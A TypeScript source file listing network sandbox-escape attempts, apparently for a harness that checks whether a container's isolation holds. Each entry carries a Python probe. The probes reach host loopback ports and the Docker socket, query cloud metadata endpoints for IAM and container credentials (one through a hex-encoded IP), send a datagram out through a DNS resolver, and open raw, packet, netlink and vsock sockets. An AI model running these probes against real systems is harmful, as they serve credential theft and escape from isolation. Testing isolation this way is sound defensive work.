import type { Attempt } from '../attempt.ts';

/** The network: the host's, the world's, and sockets that need none. */
export const NETWORK: readonly Attempt[] = [
  {
    id: 'server-loopback',
    says: 'Reach a port of the server on 127.0.0.1.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `
tries(*[lambda name=name: talk(socket.AF_INET, (name, FACTS['port4'])) for name in ('127.0.0.1', '0.0.0.0', '127.1.2.3')])
`,
  },
  {
    id: 'server-loopback-6',
    says: 'Reach a port of the server on ::1.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `
if not FACTS['port6']:
    lacking('the host has no IPv6')
tries(lambda: talk(socket.AF_INET6, ('::1', FACTS['port6'])))
`,
  },
  {
    id: 'host-abstract-socket',
    says: 'Reach an abstract socket of the host, which has no file.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `
tries(lambda: talk(socket.AF_UNIX, '\\0' + FACTS['abstract']))
names = [line.split()[7] for line in open('/proc/net/unix').readlines()[1:] if len(line.split()) > 7]
tries(*[lambda name=name: talk(socket.AF_UNIX, '\\0' + name[1:]) for name in names if name.startswith('@dojou')])
`,
  },
  {
    id: 'host-socket-file',
    says: 'Reach a socket file of the host.',
    walls: ['mount namespace'],
    proof: 'secret',
    program: `tries(*[lambda path=path: talk(socket.AF_UNIX, path) for path in (FACTS['unix'], '/run/docker.sock', '/run/dbus/system_bus_socket')])`,
  },
  {
    id: 'lan',
    says: 'Reach a machine in the host’s own network.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `tries(lambda: talk(socket.AF_INET, tuple(FACTS['lan'])))`,
  },
  {
    id: 'metadata',
    says: 'Ask the metadata service of a virtual machine for the host’s credentials.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `
request = b'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n'
tries(*[lambda host=host: talk(socket.AF_INET, (host, 80), say=request) for host in ('169.254.169.254', '0xa9.0xfe.0xa9.0xfe')])
`,
  },
  {
    id: 'task-metadata',
    says: 'Ask the credential service of a container for the host’s credentials.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `tries(lambda: talk(socket.AF_INET, ('169.254.170.2', 80), say=b'GET /v2/credentials/ HTTP/1.0\\r\\n\\r\\n'))`,
  },
  {
    id: 'ask-a-resolver',
    says: 'Send a datagram to a resolver outside, the usual way to smuggle things out.',
    walls: ['network namespace'],
    proof: 'secret',
    program: `tries(lambda: talk(socket.AF_INET, ('192.0.2.53', 53), kind=socket.SOCK_DGRAM))`,
  },
  {
    id: 'raw-socket',
    says: 'Open a raw socket.',
    walls: ['no capabilities'],
    proof: 'effect',
    program: `won(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))`,
  },
  {
    id: 'packet-socket',
    says: 'Listen to the packets of an interface (AF_PACKET).',
    walls: ['system call filter', 'no capabilities'],
    proof: 'effect',
    program: `won(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))`,
  },
  {
    id: 'netlink-socket',
    says: 'Talk to the kernel about its networks (AF_NETLINK).',
    walls: ['system call filter'],
    proof: 'effect',
    program: `won(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))`,
  },
  {
    id: 'hypervisor-socket',
    says: 'Reach the hypervisor, which needs no network (AF_VSOCK).',
    walls: ['system call filter'],
    proof: 'effect',
    program: `
try:
    won(socket.socket(40, socket.SOCK_STREAM))
except OSError as error:
    if FACTS['side'] == 'control' and error.errno == errno.EAFNOSUPPORT:
        lacking('the kernel has no AF_VSOCK')
    raise
`,
  },
  {
    id: 'configure-interfaces',
    says: 'Give the own loopback an address of the host’s network.',
    walls: ['no capabilities', 'user namespace'],
    proof: 'effect',
    program: `
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    request = b'lo:9'.ljust(16, b'\\0') + struct.pack('<HH4s8x', 2, 0, socket.inet_aton('10.99.0.1')) + bytes(8)
    fcntl.ioctl(sock, 0x8916, request)
won('configured')
`,
  },
];
